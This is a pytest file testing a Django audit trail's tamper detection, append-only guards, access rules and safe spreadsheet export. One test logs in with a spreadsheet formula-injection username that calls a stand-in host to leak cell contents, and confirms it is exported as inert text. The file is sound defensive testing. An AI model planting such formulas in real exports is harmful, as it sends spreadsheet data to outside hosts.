"""The security audit trail (issue 10): one append-only table, SM3-chained; who reads it; what goes in."""

from __future__ import annotations

import io
import threading
import zipfile

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection, transaction
from django.test import Client
from openpyxl import load_workbook

from daiban.audit import chain
from daiban.audit.guard import AppendOnlyError
from daiban.audit.models import Action, AuditEntry
from daiban.audit.services import record
from daiban.org.models import User
from daiban.petitions.models import Event, PersonalDataView


def signed_in(username: str) -> Client:
    client = Client()
    client.force_login(User.objects.get(username=username))
    return client


def test_rows_chain_and_audit_verify_finds_a_row_altered_in_the_database(org):
    """Actor: someone with SQL access to the database who rewrites one audit row to hide a view."""
    for n in range(5):
        record(Action.SETTINGS_CHANGE, actor_username="admin", label=f"第{n}次")
    out = io.StringIO()
    call_command("audit_verify", stdout=out)
    assert "审计记录完好" in out.getvalue()
    victim = AuditEntry.objects.order_by("seq")[2]
    with connection.cursor() as cursor:
        cursor.execute("UPDATE audit_auditentry SET actor_username = %s WHERE id = %s", ["nobody", victim.pk])
    with pytest.raises(CommandError, match=f"第 {victim.seq} 条校验失败：记录内容与其哈希不符"):
        call_command("audit_verify")


def test_audit_verify_finds_a_removed_row(org):
    """Actor: the same person deleting a row with SQL instead."""
    for n in range(4):
        record(Action.SETTINGS_CHANGE, actor_username="admin", label=f"第{n}次")
    rows = list(AuditEntry.objects.order_by("seq"))
    with connection.cursor() as cursor:
        cursor.execute("DELETE FROM audit_auditentry WHERE id = %s", [rows[1].pk])
    checked, broken = chain.verify()
    assert broken is not None and broken.seq == rows[2].seq and "被删除" in broken.reason


def test_no_one_edits_or_deletes_audit_rows_or_petition_events_in_the_admin(org, routed):
    """Actor: the administrator in /admin/, trying one by one and in bulk."""
    petition = routed()
    agent1 = signed_in("agent1")
    agent1.get(f"/api/v1/petitions/{petition['id']}")  # not a full view: the staff page is
    agent1.get(f"/staff/petitions/{petition['id']}/?reveal=1")
    record(Action.SETTINGS_CHANGE, actor_username="admin", label="x")
    entry = AuditEntry.objects.order_by("-seq").first()
    admin = signed_in("admin")
    assert admin.get(f"/admin/audit/auditentry/{entry.pk}/delete/").status_code == 403
    assert admin.post(f"/admin/audit/auditentry/{entry.pk}/delete/", {"post": "yes"}).status_code == 403
    changelist = admin.get("/admin/audit/auditentry/")
    assert changelist.status_code == 200 and "delete_selected" not in changelist.content.decode()
    admin.post("/admin/audit/auditentry/", {"action": "delete_selected", "_selected_action": [entry.pk], "post": "yes"})
    assert AuditEntry.objects.filter(pk=entry.pk).exists()
    change = admin.post(f"/admin/audit/auditentry/{entry.pk}/change/", {"actor_username": "nobody"})
    assert change.status_code == 403 or AuditEntry.objects.get(pk=entry.pk).actor_username == "admin"
    views = admin.get("/admin/petitions/personaldataview/").content.decode()
    assert "delete_selected" not in views
    view = PersonalDataView.objects.first()
    if view is not None:
        assert admin.get(f"/admin/petitions/personaldataview/{view.pk}/delete/").status_code == 403
    # Events are inline on the read-only petition page: no add, no change, no delete.
    assert admin.post(f"/admin/petitions/petition/{petition['id']}/delete/", {"post": "yes"}).status_code == 403
    assert Event.objects.filter(petition_id=petition["id"]).exists()


def test_model_guard_refuses_changes_and_deletes_from_code(org, new_petition):
    """Actor: a script in `manage.py shell` (or a bug) going through the ORM."""
    new_petition()
    record(Action.SETTINGS_CHANGE, actor_username="admin", label="x")
    entry = AuditEntry.objects.first()
    event = Event.objects.first()
    entry.actor_username = "x"
    event.note = "改写"
    attempts = [
        AuditEntry.objects.all().delete,
        lambda: AuditEntry.objects.filter(pk=entry.pk).update(actor_username="x"),
        entry.delete,
        entry.save,
        lambda: Event.objects.filter(pk=event.pk).delete(),
        lambda: Event.objects.filter(pk=event.pk).update(note="改写"),
        event.save,
        event.petition.delete,  # the cascade would remove the events
    ]
    for attempt in attempts:
        with pytest.raises(AppendOnlyError), transaction.atomic():
            attempt()
    assert AuditEntry.objects.filter(pk=entry.pk).exists() and Event.objects.filter(pk=event.pk).exists()


def test_the_api_has_no_way_to_delete_audit_rows(api, org):
    """Actor: the administrator with an API token."""
    record(Action.SETTINGS_CHANGE, actor_username="admin", label="x")
    entry = AuditEntry.objects.first()
    listed = api("admin").get("/audit", action="settings_change")
    assert listed.status_code == 200 and listed.data["count"] >= 1
    assert listed.data["items"][0]["hash"] == entry.hash
    assert api("admin").delete(f"/audit/{entry.pk}").status_code in (404, 405)
    assert api("admin").post(f"/audit/{entry.pk}", {}).status_code in (404, 405)
    assert AuditEntry.objects.filter(pk=entry.pk).exists()
    assert api("agent1").get("/audit").status_code == 403
    assert api("center").get("/audit", **{"from": "2000-01-01", "to": "2000-01-02"}).data["count"] == 0


def test_the_security_events_are_recorded(api, org, routed, settings):
    """Actors: agent1 views full personal data and downloads the ledger; the administrator changes the
    calendar and a department; a token is issued and revoked."""
    petition = routed()
    signed_in("agent1").get(f"/staff/petitions/{petition['id']}/?reveal=1")
    api("agent1").get(f"/petitions/{petition['id']}")
    view_rows = AuditEntry.objects.filter(action=Action.PERSONAL_DATA_VIEW, target_id=str(petition["id"]))
    assert view_rows.count() == PersonalDataView.objects.filter(petition_id=petition["id"]).count() >= 1
    assert view_rows.first().actor_username == "agent1" and view_rows.first().target_label == petition["number"]
    assert signed_in("agent1").get("/staff/ledger.xlsx").status_code == 200
    assert api("agent1").get("/ledger.xlsx").status_code == 200
    assert AuditEntry.objects.filter(action=Action.EXPORT_LEDGER, actor_username="agent1").count() == 2
    response = api("admin").post("/calendar/days", {"days": [{"date": "2027-02-20", "is_workday": True, "name": "调休"}],
                                                     "reason": "国务院通知"})
    assert response.status_code == 200
    assert AuditEntry.objects.filter(action=Action.CALENDAR_CHANGE, actor_username="admin").exists()
    admin = signed_in("admin")
    department = org.departments[0]
    admin.post(f"/admin/org/department/{department.pk}/change/", {"name": department.name, "kind": "banner",
                                                                  "phone": "0477-7000000", "active": "on"})
    change = AuditEntry.objects.get(action=Action.SETTINGS_CHANGE, target_id=str(department.pk))
    assert change.actor_username == "admin" and change.detail["operation"] == "修改"
    token = Client().post("/api/v1/auth/token", {"username": "agent2", "password": "daiban-demo"},
                          content_type="application/json").json()["token"]
    Client().delete("/api/v1/auth/token", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert AuditEntry.objects.filter(action=Action.TOKEN_ISSUE, actor_username="agent2").exists()
    assert AuditEntry.objects.filter(action=Action.TOKEN_REVOKE, actor_username="agent2").exists()
    assert chain.verify()[1] is None


def test_audit_page_for_admin_and_center_with_filters_paging_and_a_text_only_export(org, settings):
    """Actors: the center reads the trail; agent1 may not. A username typed as a formula stays text."""
    Client().post("/staff/login/", {"username": '=HYPERLINK("http://x.example/?"&A1,"点我")', "password": "x"})
    for n in range(60):
        record(Action.SETTINGS_CHANGE, actor_username="admin", label=f"部门{n}")
    center = signed_in("center")
    page = center.get("/staff/audit/?action=settings_change")
    assert page.status_code == 200 and page.context["page"].paginator.count == 60
    assert "第 1 / 2 页" in page.content.decode()
    assert center.get("/staff/audit/?who=hyperlink").context["page"].paginator.count == 1
    assert center.get("/staff/audit/?from=2000-01-01&to=2000-01-02").context["page"].paginator.count == 0
    assert signed_in("agent1").get("/staff/audit/").status_code == 404
    export = center.get("/staff/audit.xlsx?who=hyperlink")
    data = b"".join(export.streaming_content)
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type == "s" for c in cells if c.value is not None)
    assert any(str(c.value).startswith("=hyperlink") for c in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert AuditEntry.objects.filter(action=Action.EXPORT_AUDIT, actor_username="center").exists()


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True, serialized_rollback=True)  # as tests/test_concurrency.py: keeps the tests after it intact
def test_concurrent_writers_do_not_fork_the_chain(org):
    """Actors: four request threads writing audit rows at once, on PostgreSQL (the advisory lock).
    SQLite serialises writers by its IMMEDIATE transactions; its in-memory test database cannot
    show concurrency."""
    from django.db import connections

    errors: list[Exception] = []

    def write(n: int) -> None:
        try:
            for i in range(10):
                record(Action.SETTINGS_CHANGE, actor_username=f"worker{n}", label=str(i))
        except Exception as exc:  # pragma: no cover - reported below
            errors.append(exc)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=write, args=(n,)) for n in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    seqs = list(AuditEntry.objects.order_by("seq").values_list("seq", flat=True))
    assert seqs == list(range(1, len(seqs) + 1)) and len(seqs) >= 40
    assert chain.verify()[1] is None
